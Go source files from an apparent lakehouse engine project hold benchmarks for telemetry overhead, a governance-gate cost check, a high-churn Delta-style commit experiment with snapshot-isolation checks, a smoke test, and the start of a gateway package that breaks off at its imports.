// exec-scaling workload run with telemetry fully off vs fully on.
type TelemetryOverheadConfig struct {
	// Rows is the total table size.
	Rows int
	// RowsPerFile sets file granularity (morsel count).
	RowsPerFile int
	// Workers is the engine parallelism for both series.
	Workers int
	// ReadLatency is the simulated per-file GET latency. Zero keeps the
	// workload CPU-bound, which is the harshest setting for measuring
	// instrumentation overhead (nothing to hide the atomics behind).
	ReadLatency time.Duration
	// Repetitions per series; the minimum wall time is kept.
	Repetitions int
}

// DefaultTelemetryOverheadConfig is the recorded experiment: the in-memory
// (zero read latency) workload, where span and counter costs are most
// visible.
func DefaultTelemetryOverheadConfig() TelemetryOverheadConfig {
	return TelemetryOverheadConfig{
		Rows:        500_000,
		RowsPerFile: 8192,
		Workers:     4,
		ReadLatency: 0,
		Repetitions: 5,
	}
}

// TelemetryOverheadResult compares the two series. The acceptance bar for
// the instrumentation is OverheadPct <= 10.
type TelemetryOverheadResult struct {
	Rows           int     `json:"rows"`
	Files          int     `json:"files"`
	Workers        int     `json:"workers"`
	Repetitions    int     `json:"repetitions"`
	Query          string  `json:"query"`
	BaselineMS     float64 `json:"baseline_ms"`
	InstrumentedMS float64 `json:"instrumented_ms"`
	OverheadPct    float64 `json:"overhead_pct"`
	// OpsProfiled is the number of operator nodes in the EXPLAIN ANALYZE
	// tree of the instrumented run (sanity: instrumentation was really on).
	OpsProfiled int `json:"ops_profiled"`
	// VerifyMS is the per-query cost of the sentinel gate (Verify + Seal +
	// pre-execute Check) on the governed form of the workload query.
	VerifyMS float64 `json:"verify_ms"`
	// VerifyOverheadPct is VerifyMS relative to the baseline execution time:
	// what SENTINEL_VERIFY adds to every query. Shares the ≤10% acceptance
	// bar with OverheadPct.
	VerifyOverheadPct float64 `json:"verify_overhead_pct"`
	// SpooledQueries confirms the instrumented series really fed the
	// system-table spooler and every record landed in system.query.history.
	SpooledQueries int64 `json:"spooled_queries"`
	// P50MS/P90MS/P99MS are instrumented per-query latency percentiles,
	// interpolated from the same Histogram type that backs /metrics.
	P50MS float64 `json:"p50_ms"`
	P90MS float64 `json:"p90_ms"`
	P99MS float64 `json:"p99_ms"`
}

// FormatJSON renders the result for BENCH_telemetry.json.
func (r *TelemetryOverheadResult) FormatJSON() ([]byte, error) {
	return json.MarshalIndent(r, "", "  ")
}

// RunTelemetryOverhead measures the wall-time cost of full instrumentation:
// the same scan→filter→aggregate workload executed bare (no trace context,
// no profile — the zero-alloc skip path in Engine.build) and then with a
// tracer-minted root span plus an EXPLAIN ANALYZE profile, which switches on
// per-operator spans, per-worker morsel spans, storage.get spans, and all
// OpStats atomics.
func RunTelemetryOverhead(cfg TelemetryOverheadConfig) (*TelemetryOverheadResult, error) {
	w := NewWorld(sandbox.Config{})
	files, err := w.SeedEvents(cfg.Rows, cfg.RowsPerFile)
	if err != nil {
		return nil, err
	}
	p, err := w.PreparePlan(ExecScalingQuery, nil, optimizer.DefaultOptions())
	if err != nil {
		return nil, err
	}
	w.Engine.Tables = NewLatencyTables(w.Cat, cfg.ReadLatency)
	w.Engine.Parallelism = cfg.Workers
	defer func() {
		w.Engine.Tables = w.Cat
		w.Engine.Parallelism = 0
	}()

	runOnce := func(qc *exec.QueryContext) error {
		batches, err := w.Engine.Execute(qc, p)
		if err != nil {
			return err
		}
		n := 0
		for _, b := range batches {
			n += b.NumRows()
		}
		if n == 0 {
			return fmt.Errorf("bench: telemetry workload returned no rows")
		}
		return nil
	}

	best := func(fn func() error) (time.Duration, error) {
		var bestD time.Duration
		for rep := 0; rep < cfg.Repetitions; rep++ {
			start := time.Now()
			if err := fn(); err != nil {
				return 0, err
			}
			took := time.Since(start)
			if rep == 0 || took < bestD {
				bestD = took
			}
		}
		return bestD, nil
	}

	baseD, err := best(func() error {
		return runOnce(exec.NewQueryContext(w.Cat, w.Ctx()))
	})
	if err != nil {
		return nil, err
	}

	// The instrumented series also feeds the system-table spooler per rep —
	// the exact hot-path cost a production query pays (building the record
	// and the non-blocking enqueue) — so spooling shares the ≤10% gate. The
	// background flush is intentionally not started: its cost is amortized
	// off the query path, and a deterministic Flush below proves the records
	// actually landed in system.query.history.
	reg := telemetry.NewRegistry()
	spool, err := systemtables.New(systemtables.Config{Catalog: w.Cat, Metrics: reg})
	if err != nil {
		return nil, err
	}
	latencies := reg.Histogram("bench.query_ms", nil)

	tracer := telemetry.NewTracer()
	var lastProfile *telemetry.Profile
	instD, err := best(func() error {
		repStart := time.Now()
		ctx, root := tracer.StartTrace(context.Background(), "query")
		qc := exec.NewQueryContext(w.Cat, w.Ctx())
		qc.Context = ctx
		qc.Profile = telemetry.NewProfile()
		lastProfile = qc.Profile
		err := runOnce(qc)
		root.EndErr(err)
		tot := qc.Profile.Totals()
		spool.RecordQuery(systemtables.QueryRecord{
			Tenant: Admin, SessionID: "bench", SQLText: ExecScalingQuery,
			Status: "OK", TotalNanos: int64(time.Since(repStart)),
			RowsOut: tot.RowsOut, FilesScanned: tot.FilesScanned,
			FilesPruned: tot.FilesPruned, BytesRead: tot.ReadBytes,
		})
		latencies.Observe(float64(time.Since(repStart)) / float64(time.Millisecond))
		return err
	})
	if err != nil {
		return nil, err
	}
	if open := tracer.OpenSpans(); open != 0 {
		return nil, fmt.Errorf("bench: %d spans left open after instrumented runs", open)
	}
	if err := spool.Flush(); err != nil {
		return nil, err
	}
	spooled, err := w.Cat.SystemTableCount(systemtables.HistoryTableParts)
	if err != nil {
		return nil, err
	}
	if spooled != int64(cfg.Repetitions) {
		return nil, fmt.Errorf("bench: spooled %d query records, want %d", spooled, cfg.Repetitions)
	}
	p50, _ := latencies.Quantile(0.50)
	p90, _ := latencies.Quantile(0.90)
	p99, _ := latencies.Quantile(0.99)

	verifyD, err := measureVerify(w, cfg.Repetitions)
	if err != nil {
		return nil, err
	}

	return &TelemetryOverheadResult{
		Rows:              cfg.Rows,
		Files:             files,
		Workers:           cfg.Workers,
		Repetitions:       cfg.Repetitions,
		Query:             ExecScalingQuery,
		BaselineMS:        float64(baseD) / float64(time.Millisecond),
		InstrumentedMS:    float64(instD) / float64(time.Millisecond),
		OverheadPct:       (float64(instD)/float64(baseD) - 1) * 100,
		OpsProfiled:       countOps(lastProfile.Root()),
		VerifyMS:          float64(verifyD) / float64(time.Millisecond),
		VerifyOverheadPct: float64(verifyD) / float64(baseD) * 100,
		SpooledQueries:    spooled,
		P50MS:             p50,
		P90MS:             p90,
		P99MS:             p99,
	}, nil
}

// measureVerify times one full sentinel gate pass — Verify, Seal, and the
// pre-execute Check — on the governed form of the workload query: the events
// table is given a row filter and a column mask and read by a non-admin, so
// the dataflow pass has real obligations to discharge. Returns the best
// per-query gate cost over the repetitions.
func measureVerify(w *World, reps int) (time.Duration, error) {
	const reader = "reader@corp.com"
	if err := w.Cat.SetRowFilter(w.Ctx(), []string{"events"}, "v >= 0", false); err != nil {
		return 0, err
	}
	if err := w.Cat.SetColumnMask(w.Ctx(), []string{"events"}, "cat", "'***'", false); err != nil {
		return 0, err
	}
	if err := w.Cat.Grant(w.Ctx(), catalog.PrivSelect, []string{"events"}, reader); err != nil {
		return 0, err
	}
	q, err := sql.ParseQuery(ExecScalingQuery)
	if err != nil {
		return 0, err
	}
	rctx := catalog.RequestContext{User: reader, Compute: catalog.ComputeStandard, SessionID: "bench-verify"}
	analyzed, err := analyzer.New(w.Cat, rctx).Analyze(q)
	if err != nil {
		return 0, err
	}
	optimized := optimizer.Optimize(analyzed, optimizer.DefaultOptions())

	gate := func() error {
		report := sentinel.Verify(analyzed, optimized)
		if err := report.Err(); err != nil {
			return fmt.Errorf("bench: governed workload plan rejected: %w", err)
		}
		sealed, err := sentinel.Seal(optimized, report)
		if err != nil {
			return err
		}
		return sealed.Check()
	}

	// The gate is microseconds-scale; time a fixed inner loop per repetition
	// and keep the best per-query cost.
	const inner = 50
	var best time.Duration
	for rep := 0; rep < reps; rep++ {
		start := time.Now()
		for i := 0; i < inner; i++ {
			if err := gate(); err != nil {
				return 0, err
			}
		}
		per := time.Since(start) / inner
		if rep == 0 || per < best {
			best = per
		}
	}
	return best, nil
}

func countOps(o *telemetry.OpStats) int {
	if o == nil {
		return 0
	}
	n := 1
	for _, c := range o.Children() {
		n += countOps(c)
	}
	return n
}

// FormatTelemetryOverhead renders the experiment.
func FormatTelemetryOverhead(r *TelemetryOverheadResult) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "Telemetry overhead: exec workload bare vs fully instrumented (%d rows, %d files, %d workers)\n",
		r.Rows, r.Files, r.Workers)
	fmt.Fprintf(&sb, "instrumented = trace + root span + per-operator spans + worker/morsel spans + storage.get spans + profile atomics + system-table spooler enqueue (%d ops profiled)\n\n", r.OpsProfiled)
	fmt.Fprintf(&sb, "  baseline:     %8.1fms\n", r.BaselineMS)
	fmt.Fprintf(&sb, "  instrumented: %8.1fms\n", r.InstrumentedMS)
	fmt.Fprintf(&sb, "  overhead:     %+7.1f%%\n\n", r.OverheadPct)
	fmt.Fprintf(&sb, "  sentinel gate (verify+seal+check, governed plan): %.3fms = %+.2f%% of baseline\n",
		r.VerifyMS, r.VerifyOverheadPct)
	fmt.Fprintf(&sb, "  system tables: %d query record(s) spooled into system.query.history\n", r.SpooledQueries)
	fmt.Fprintf(&sb, "  instrumented latency percentiles: p50 %.1fms  p90 %.1fms  p99 %.1fms\n", r.P50MS, r.P90MS, r.P99MS)
	return sb.String()
}
