package bench

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"time"

	"lakeguard/internal/exec"
	"lakeguard/internal/optimizer"
	"lakeguard/internal/sandbox"
	"lakeguard/internal/telemetry"
)

// TelemetryOverheadConfig sizes the instrumentation-cost experiment: the
// exec-scaling workload run with telemetry fully off vs fully on.
type TelemetryOverheadConfig struct {
	// Rows is the total table size.
	Rows int
	// RowsPerFile sets file granularity (morsel count).
	RowsPerFile int
	// Workers is the engine parallelism for both series.
	Workers int
	// ReadLatency is the simulated per-file GET latency. Zero keeps the
	// workload CPU-bound, which is the harshest setting for measuring
	// instrumentation overhead (nothing to hide the atomics behind).
	ReadLatency time.Duration
	// Repetitions per series; the minimum wall time is kept.
	Repetitions int
}

// DefaultTelemetryOverheadConfig is the recorded experiment: the in-memory
// (zero read latency) workload, where span and counter costs are most
// visible.
func DefaultTelemetryOverheadConfig() TelemetryOverheadConfig {
	return TelemetryOverheadConfig{
		Rows:        500_000,
		RowsPerFile: 8192,
		Workers:     4,
		ReadLatency: 0,
		Repetitions: 5,
	}
}

// TelemetryOverheadResult compares the two series. The acceptance bar for
// the instrumentation is OverheadPct <= 10.
type TelemetryOverheadResult struct {
	Rows           int     `json:"rows"`
	Files          int     `json:"files"`
	Workers        int     `json:"workers"`
	Repetitions    int     `json:"repetitions"`
	Query          string  `json:"query"`
	BaselineMS     float64 `json:"baseline_ms"`
	InstrumentedMS float64 `json:"instrumented_ms"`
	OverheadPct    float64 `json:"overhead_pct"`
	// OpsProfiled is the number of operator nodes in the EXPLAIN ANALYZE
	// tree of the instrumented run (sanity: instrumentation was really on).
	OpsProfiled int `json:"ops_profiled"`
}

// FormatJSON renders the result for BENCH_telemetry.json.
func (r *TelemetryOverheadResult) FormatJSON() ([]byte, error) {
	return json.MarshalIndent(r, "", "  ")
}

// RunTelemetryOverhead measures the wall-time cost of full instrumentation:
// the same scan→filter→aggregate workload executed bare (no trace context,
// no profile — the zero-alloc skip path in Engine.build) and then with a
// tracer-minted root span plus an EXPLAIN ANALYZE profile, which switches on
// per-operator spans, per-worker morsel spans, storage.get spans, and all
// OpStats atomics.
func RunTelemetryOverhead(cfg TelemetryOverheadConfig) (*TelemetryOverheadResult, error) {
	w := NewWorld(sandbox.Config{})
	files, err := w.SeedEvents(cfg.Rows, cfg.RowsPerFile)
	if err != nil {
		return nil, err
	}
	p, err := w.PreparePlan(ExecScalingQuery, nil, optimizer.DefaultOptions())
	if err != nil {
		return nil, err
	}
	w.Engine.Tables = NewLatencyTables(w.Cat, cfg.ReadLatency)
	w.Engine.Parallelism = cfg.Workers
	defer func() {
		w.Engine.Tables = w.Cat
		w.Engine.Parallelism = 0
	}()

	runOnce := func(qc *exec.QueryContext) error {
		batches, err := w.Engine.Execute(qc, p)
		if err != nil {
			return err
		}
		n := 0
		for _, b := range batches {
			n += b.NumRows()
		}
		if n == 0 {
			return fmt.Errorf("bench: telemetry workload returned no rows")
		}
		return nil
	}

	best := func(fn func() error) (time.Duration, error) {
		var bestD time.Duration
		for rep := 0; rep < cfg.Repetitions; rep++ {
			start := time.Now()
			if err := fn(); err != nil {
				return 0, err
			}
			took := time.Since(start)
			if rep == 0 || took < bestD {
				bestD = took
			}
		}
		return bestD, nil
	}

	baseD, err := best(func() error {
		return runOnce(exec.NewQueryContext(w.Cat, w.Ctx()))
	})
	if err != nil {
		return nil, err
	}

	tracer := telemetry.NewTracer()
	var lastProfile *telemetry.Profile
	instD, err := best(func() error {
		ctx, root := tracer.StartTrace(context.Background(), "query")
		qc := exec.NewQueryContext(w.Cat, w.Ctx())
		qc.Context = ctx
		qc.Profile = telemetry.NewProfile()
		lastProfile = qc.Profile
		err := runOnce(qc)
		root.EndErr(err)
		return err
	})
	if err != nil {
		return nil, err
	}
	if open := tracer.OpenSpans(); open != 0 {
		return nil, fmt.Errorf("bench: %d spans left open after instrumented runs", open)
	}

	return &TelemetryOverheadResult{
		Rows:           cfg.Rows,
		Files:          files,
		Workers:        cfg.Workers,
		Repetitions:    cfg.Repetitions,
		Query:          ExecScalingQuery,
		BaselineMS:     float64(baseD) / float64(time.Millisecond),
		InstrumentedMS: float64(instD) / float64(time.Millisecond),
		OverheadPct:    (float64(instD)/float64(baseD) - 1) * 100,
		OpsProfiled:    countOps(lastProfile.Root()),
	}, nil
}

func countOps(o *telemetry.OpStats) int {
	if o == nil {
		return 0
	}
	n := 1
	for _, c := range o.Children() {
		n += countOps(c)
	}
	return n
}

// FormatTelemetryOverhead renders the experiment.
func FormatTelemetryOverhead(r *TelemetryOverheadResult) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "Telemetry overhead: exec workload bare vs fully instrumented (%d rows, %d files, %d workers)\n",
		r.Rows, r.Files, r.Workers)
	fmt.Fprintf(&sb, "instrumented = trace + root span + per-operator spans + worker/morsel spans + storage.get spans + profile atomics (%d ops profiled)\n\n", r.OpsProfiled)
	fmt.Fprintf(&sb, "  baseline:     %8.1fms\n", r.BaselineMS)
	fmt.Fprintf(&sb, "  instrumented: %8.1fms\n", r.InstrumentedMS)
	fmt.Fprintf(&sb, "  overhead:     %+7.1f%%\n", r.OverheadPct)
	return sb.String()
}
