package bench

import (
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"lakeguard/internal/delta"
	"lakeguard/internal/exec"
	"lakeguard/internal/optimizer"
	"lakeguard/internal/sandbox"
	"lakeguard/internal/storage"
	"lakeguard/internal/telemetry"
	"lakeguard/internal/types"
)

// ChurnConfig sizes the high-churn lakehouse experiment: a long commit
// history replayed cold with and without log checkpoints, a concurrent
// appender/compactor/reader mix asserting snapshot isolation, and
// deletion-vector DML with serial/parallel scan equivalence.
type ChurnConfig struct {
	// Commits is the history length for the cold-replay comparison.
	Commits int
	// CheckpointInterval is the checkpoint cadence of the accelerated world
	// (the baseline world runs with checkpoints disabled).
	CheckpointInterval int
	// Appenders/Readers are the concurrent writer and reader counts of the
	// churn phase; one compactor always runs alongside them.
	Appenders, Readers int
	// Duration bounds the concurrent churn phase.
	Duration time.Duration
	// MinSpeedup is the required cold-replay entry reduction (checkpointed
	// vs baseline); the run fails below it.
	MinSpeedup float64
	// Rows/RowsPerFile size the deletion-vector DML table.
	Rows, RowsPerFile int
}

// DefaultChurnConfig is the recorded experiment: 1000 commits, the default
// checkpoint interval, 3 appenders + compactor + 2 readers for 2 seconds,
// and a 10x replay-reduction floor.
func DefaultChurnConfig() ChurnConfig {
	return ChurnConfig{
		Commits:            1000,
		CheckpointInterval: delta.DefaultCheckpointInterval,
		Appenders:          3,
		Readers:            2,
		Duration:           2 * time.Second,
		MinSpeedup:         10,
		Rows:               32_768,
		RowsPerFile:        2048,
	}
}

// ChurnResult is the full recorded experiment, serialized to
// BENCH_churn.json.
type ChurnResult struct {
	Commits            int `json:"commits"`
	CheckpointInterval int `json:"checkpoint_interval"`

	// Cold replay: entries decoded by a fresh log handle's first snapshot.
	BaselineEntriesReplayed   int64   `json:"baseline_entries_replayed"`
	CheckpointEntriesReplayed int64   `json:"checkpoint_entries_replayed"`
	ReplaySpeedup             float64 `json:"replay_speedup"`
	CheckpointWrites          int64   `json:"checkpoint_writes"`
	ColdFromCheckpoint        int64   `json:"cold_snapshots_from_checkpoint"`
	BaselineColdMS            float64 `json:"baseline_cold_ms"`
	CheckpointColdMS          float64 `json:"checkpoint_cold_ms"`
	ListSavedEntries          int64   `json:"list_saved_entries"`

	// Concurrent churn under appenders + compactor + readers.
	AppendsCommitted    int64 `json:"appends_committed"`
	CompactionPasses    int64 `json:"compaction_passes"`
	CompactedFiles      int64 `json:"compacted_files"`
	ReaderSnapshots     int64 `json:"reader_snapshots"`
	IsolationViolations int64 `json:"isolation_violations"`
	CommitRetries       int64 `json:"commit_retries"`

	// Deletion-vector DML.
	DeleteMatchedFiles int  `json:"delete_matched_files"`
	DeleteRowsMasked   int  `json:"delete_rows_masked"`
	DeletePuts         int64 `json:"delete_puts"`
	DVMaskedScanRows   int64 `json:"dv_masked_scan_rows"`
	ResultsIdentical   bool  `json:"results_identical_par_1_2_8_row"`
}

// FormatJSON renders the result for BENCH_churn.json.
func (r *ChurnResult) FormatJSON() ([]byte, error) {
	return json.MarshalIndent(r, "", "  ")
}

// churnSchema is the single-column table used by the commit-history phases.
func churnSchema() *types.Schema {
	return types.NewSchema(types.Field{Name: "n", Kind: types.KindInt64})
}

func churnRow(v int64) *types.Batch {
	bb := types.NewBatchBuilder(churnSchema(), 1)
	bb.AppendRow([]types.Value{types.Int64(v)})
	return bb.Build()
}

// coldReplay builds a table with `commits` single-row commits at the given
// checkpoint interval, then measures what a cold (fresh-handle) snapshot of
// it costs: log entries decoded, checkpoint loads, and wall time.
func coldReplay(commits, interval int) (replayed, fromCkpt, ckptWrites, listSaved int64, wall time.Duration, err error) {
	store := storage.NewStore()
	m := telemetry.NewRegistry()
	store.SetMetrics(m)
	cred := store.Signer().Issue("churn/", storage.ModeReadWrite, time.Hour)
	log, err := delta.Create(store, &cred, "churn/t/", churnSchema())
	if err != nil {
		return 0, 0, 0, 0, 0, err
	}
	log.SetMetrics(m)
	log.SetCheckpointInterval(interval)
	for i := 0; i < commits; i++ {
		if _, err := log.Append(&cred, []*types.Batch{churnRow(int64(i))}); err != nil {
			return 0, 0, 0, 0, 0, err
		}
	}
	ckptWrites = m.Counter("delta.checkpoint.writes").Value()
	listSaved = m.Counter("storage.list_saved").Value()

	// A fresh handle with its own registry isolates the cold-start cost.
	cold := delta.Attach(store, "churn/t/")
	m2 := telemetry.NewRegistry()
	cold.SetMetrics(m2)
	start := time.Now()
	snap, err := cold.Snapshot(&cred, -1)
	wall = time.Since(start)
	if err != nil {
		return 0, 0, 0, 0, 0, err
	}
	if snap.NumRecords() != int64(commits) {
		return 0, 0, 0, 0, 0, fmt.Errorf("bench: cold snapshot has %d rows, want %d", snap.NumRecords(), commits)
	}
	replayed = m2.Counter("snapshot.entries.replayed").Value()
	fromCkpt = m2.Counter("snapshot.replay.from_checkpoint").Value()
	return replayed, fromCkpt, ckptWrites, listSaved, wall, nil
}

// runConcurrentChurn drives appenders, a compactor, and readers against one
// table and self-checks snapshot isolation: every snapshot's row count must
// lie between the appends completed before it was taken and the appends
// started by the time it returned, versions must be monotonic per reader,
// and compaction must never change the logical row count.
func runConcurrentChurn(cfg ChurnConfig, res *ChurnResult) error {
	w := NewWorld(sandbox.Config{})
	m := telemetry.NewRegistry()
	w.Cat.SetMetrics(m)
	w.Cat.SetCheckpointInterval(cfg.CheckpointInterval)
	ctx := w.Ctx()
	parts := []string{"churn"}
	if err := w.Cat.CreateTable(ctx, parts, churnSchema(), false, ""); err != nil {
		return err
	}
	var started, done, violations, snapshots, passes, compacted atomic.Int64
	deadline := time.Now().Add(cfg.Duration)
	var wg sync.WaitGroup
	errCh := make(chan error, cfg.Appenders+cfg.Readers+1)

	for a := 0; a < cfg.Appenders; a++ {
		wg.Add(1)
		go func(id int) {
			defer wg.Done()
			for i := 0; time.Now().Before(deadline); i++ {
				started.Add(1)
				for {
					_, err := w.Cat.AppendToTable(ctx, parts, []*types.Batch{churnRow(int64(id*1_000_000 + i))})
					if err == nil {
						break
					}
					if !errors.Is(err, delta.ErrConcurrentCommit) {
						errCh <- err
						return
					}
				}
				done.Add(1)
			}
		}(a)
	}

	wg.Add(1)
	go func() {
		defer wg.Done()
		for time.Now().Before(deadline) {
			stats, err := w.Cat.CompactTable(ctx, parts, 1<<20)
			if err != nil && !errors.Is(err, delta.ErrConcurrentCommit) {
				errCh <- err
				return
			}
			if err == nil && stats.FilesIn > 0 {
				passes.Add(1)
				compacted.Add(int64(stats.FilesIn))
			}
			time.Sleep(5 * time.Millisecond)
		}
	}()

	for r := 0; r < cfg.Readers; r++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			lastVersion := int64(-1)
			for time.Now().Before(deadline) {
				completedBefore := done.Load()
				snap, _, err := w.Cat.OpenSnapshot(ctx, "main.default.churn", -1)
				if err != nil {
					errCh <- err
					return
				}
				startedAfter := started.Load()
				rows := snap.NumRecords()
				if rows < completedBefore || rows > startedAfter {
					violations.Add(1)
				}
				if snap.Version < lastVersion {
					violations.Add(1)
				}
				lastVersion = snap.Version
				snapshots.Add(1)
			}
		}()
	}

	wg.Wait()
	select {
	case err := <-errCh:
		return err
	default:
	}
	// Settled check: the final snapshot holds exactly the committed rows.
	snap, _, err := w.Cat.OpenSnapshot(ctx, "main.default.churn", -1)
	if err != nil {
		return err
	}
	if snap.NumRecords() != done.Load() {
		violations.Add(1)
	}
	res.AppendsCommitted = done.Load()
	res.CompactionPasses = passes.Load()
	res.CompactedFiles = compacted.Load()
	res.ReaderSnapshots = snapshots.Load()
	res.IsolationViolations = violations.Load()
	res.CommitRetries = m.Counter("delta.commit.retries").Value()
	return nil
}

// runDVPhase deletes rows from two files of a multi-file table through a
// deletion-vector mutation, asserts the commit wrote no data files, and
// checks serial, parallel, and row-interpreted scans agree byte-for-byte on
// the masked table.
func runDVPhase(cfg ChurnConfig, res *ChurnResult) error {
	w := NewWorld(sandbox.Config{})
	m := telemetry.NewRegistry()
	w.Cat.SetMetrics(m)
	w.Engine.Metrics = m
	ctx := w.Ctx()
	if _, err := w.SeedEvents(cfg.Rows, cfg.RowsPerFile); err != nil {
		return err
	}
	snap, read, err := w.Cat.OpenSnapshot(ctx, "main.default.events", -1)
	if err != nil {
		return err
	}
	if len(snap.Files) < 4 {
		return fmt.Errorf("bench: need >= 4 files, have %d", len(snap.Files))
	}
	// Mark every 7th row of two mid-table files deleted.
	mut := delta.Mutation{Operation: "DELETE", SetDVs: map[string]*delta.DeletionVector{}}
	for _, fi := range []int{1, 2} {
		f := snap.Files[fi]
		b, err := read(f.Path)
		if err != nil {
			return err
		}
		var hits []int64
		for r := 0; r < b.NumRows(); r++ {
			if b.Cols[0].Int64(r)%7 == 0 {
				hits = append(hits, int64(r))
			}
		}
		mut.SetDVs[f.Path] = f.DV.Union(hits)
		mut.Expect = append(mut.Expect, delta.FileExpectation{Path: f.Path, DVCardinality: 0})
		res.DeleteRowsMasked += len(hits)
	}
	res.DeleteMatchedFiles = 2
	_, putsBefore := w.Cat.Store().Stats()
	if _, err := w.Cat.MutateTable(ctx, []string{"events"}, mut); err != nil {
		return err
	}
	_, putsAfter := w.Cat.Store().Stats()
	res.DeletePuts = putsAfter - putsBefore
	if res.DeletePuts > 2 {
		return fmt.Errorf("bench: DV delete issued %d PUTs (want <= 2: the log entry and at most a checkpoint)", res.DeletePuts)
	}

	query := "SELECT cat, SUM(v) AS total, COUNT(*) AS n FROM events WHERE v > 250 GROUP BY cat ORDER BY cat"
	collect := func(par int, vec bool) (string, error) {
		w.Engine.Parallelism = par
		w.Engine.DisableVecExec = !vec
		p, err := w.PreparePlan(query, nil, optimizer.DefaultOptions())
		if err != nil {
			return "", err
		}
		qc := exec.NewQueryContext(w.Cat, ctx)
		batches, err := w.Engine.Execute(qc, p)
		if err != nil {
			return "", err
		}
		var b strings.Builder
		for _, batch := range batches {
			for _, row := range batch.Rows() {
				fmt.Fprintf(&b, "%v\n", row)
			}
		}
		return b.String(), nil
	}
	ref, err := collect(1, true)
	if err != nil {
		return err
	}
	res.ResultsIdentical = true
	for _, par := range []int{2, 8} {
		got, err := collect(par, true)
		if err != nil {
			return err
		}
		if got != ref {
			res.ResultsIdentical = false
		}
	}
	rowGot, err := collect(1, false)
	if err != nil {
		return err
	}
	if rowGot != ref {
		res.ResultsIdentical = false
	}
	if !res.ResultsIdentical {
		return fmt.Errorf("bench: scans disagree across parallelism/vec modes with deletion vectors")
	}
	res.DVMaskedScanRows = m.Counter("scan.rows.dv_masked").Value()
	if res.DVMaskedScanRows == 0 {
		return fmt.Errorf("bench: scans masked no deletion-vector rows")
	}
	return nil
}

// RunChurn runs the three-phase high-churn experiment and enforces its
// acceptance floors: replay speedup, zero isolation violations, bounded
// DELETE writes, and byte-identical serial/parallel/row results.
func RunChurn(cfg ChurnConfig) (*ChurnResult, error) {
	res := &ChurnResult{Commits: cfg.Commits, CheckpointInterval: cfg.CheckpointInterval}

	baseReplayed, _, _, _, baseWall, err := coldReplay(cfg.Commits, 0)
	if err != nil {
		return nil, err
	}
	ckptReplayed, fromCkpt, ckptWrites, listSaved, ckptWall, err := coldReplay(cfg.Commits, cfg.CheckpointInterval)
	if err != nil {
		return nil, err
	}
	res.BaselineEntriesReplayed = baseReplayed
	res.CheckpointEntriesReplayed = ckptReplayed
	res.CheckpointWrites = ckptWrites
	res.ColdFromCheckpoint = fromCkpt
	res.ListSavedEntries = listSaved
	res.BaselineColdMS = float64(baseWall) / float64(time.Millisecond)
	res.CheckpointColdMS = float64(ckptWall) / float64(time.Millisecond)
	if ckptReplayed > 0 {
		res.ReplaySpeedup = float64(baseReplayed) / float64(ckptReplayed)
	}
	if res.ReplaySpeedup < cfg.MinSpeedup {
		return res, fmt.Errorf("bench: cold replay reduced entries only %.1fx (want >= %.0fx: %d -> %d entries)",
			res.ReplaySpeedup, cfg.MinSpeedup, baseReplayed, ckptReplayed)
	}
	if fromCkpt == 0 {
		return res, fmt.Errorf("bench: cold snapshot did not seed from a checkpoint")
	}

	if err := runConcurrentChurn(cfg, res); err != nil {
		return res, err
	}
	if res.IsolationViolations > 0 {
		return res, fmt.Errorf("bench: %d snapshot-isolation violations under concurrent churn", res.IsolationViolations)
	}
	if res.AppendsCommitted == 0 {
		return res, fmt.Errorf("bench: no appends committed during the churn window")
	}

	if err := runDVPhase(cfg, res); err != nil {
		return res, err
	}
	return res, nil
}

// FormatChurn renders the experiment in the report layout.
func FormatChurn(r *ChurnResult) string {
	var b strings.Builder
	fmt.Fprintf(&b, "High-churn lakehouse: %d commits, checkpoint interval %d\n\n", r.Commits, r.CheckpointInterval)
	fmt.Fprintf(&b, "%-34s %12s %12s\n", "", "no ckpt", "checkpointed")
	fmt.Fprintf(&b, "%-34s %12d %12d\n", "cold replay: log entries decoded", r.BaselineEntriesReplayed, r.CheckpointEntriesReplayed)
	fmt.Fprintf(&b, "%-34s %12.1f %12.1f\n", "cold snapshot wall ms", r.BaselineColdMS, r.CheckpointColdMS)
	fmt.Fprintf(&b, "\n%.1fx fewer entries replayed (%d checkpoints written, %d LIST entries skipped via seeded listing)\n",
		r.ReplaySpeedup, r.CheckpointWrites, r.ListSavedEntries)
	fmt.Fprintf(&b, "\nconcurrent churn: %d appends, %d compaction passes (%d files folded), %d reader snapshots\n",
		r.AppendsCommitted, r.CompactionPasses, r.CompactedFiles, r.ReaderSnapshots)
	fmt.Fprintf(&b, "isolation violations: %d; commit retries under contention: %d\n",
		r.IsolationViolations, r.CommitRetries)
	fmt.Fprintf(&b, "\nDV delete: %d rows across %d files in %d PUTs; scans masked %d rows\n",
		r.DeleteRowsMasked, r.DeleteMatchedFiles, r.DeletePuts, r.DVMaskedScanRows)
	fmt.Fprintf(&b, "serial/parallel(2,8)/row-interpreted results identical: %v\n", r.ResultsIdentical)
	return b.String()
}
