package bench

import "testing"

// TestExecScalingSmoke runs a miniature version of the morsel-parallelism
// experiment end to end: the workload must produce identical answers at every
// worker count (the runner errors on empty results) and the JSON must render.
func TestExecScalingSmoke(t *testing.T) {
	cfg := ExecScalingConfig{
		Rows:        20_000,
		RowsPerFile: 2048,
		Workers:     []int{1, 4},
		ReadLatency: 0,
		Repetitions: 1,
	}
	res, err := RunExecScaling(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if res.Files < 9 {
		t.Fatalf("expected ~10 files, got %d", res.Files)
	}
	if len(res.Scaling) != 2 {
		t.Fatalf("expected 2 scaling points, got %d", len(res.Scaling))
	}
	fk, err := RunFilterKernel(8192, 3)
	if err != nil {
		t.Fatal(err)
	}
	if fk.Speedup <= 1 {
		t.Errorf("vectorized filter slower than row interpreter: %.2fx", fk.Speedup)
	}
	res.FilterKernel = fk
	if _, err := res.FormatJSON(); err != nil {
		t.Fatal(err)
	}
	_ = FormatExecScaling(res)
}
