// Package gateway implements the Serverless Spark control plane (paper §6.2,
// Fig. 10): a workspace-wide Connect endpoint behind which a regional
// gateway tracks utilization, routes each session to a Standard-architecture
// cluster, provisions new clusters under load, and migrates sessions between
// backends without user-visible downtime.
package gateway

import (
	"context"
	"errors"
	"fmt"
	"sync"

	"lakeguard/internal/connect"
	"lakeguard/internal/core"
	"lakeguard/internal/plan"
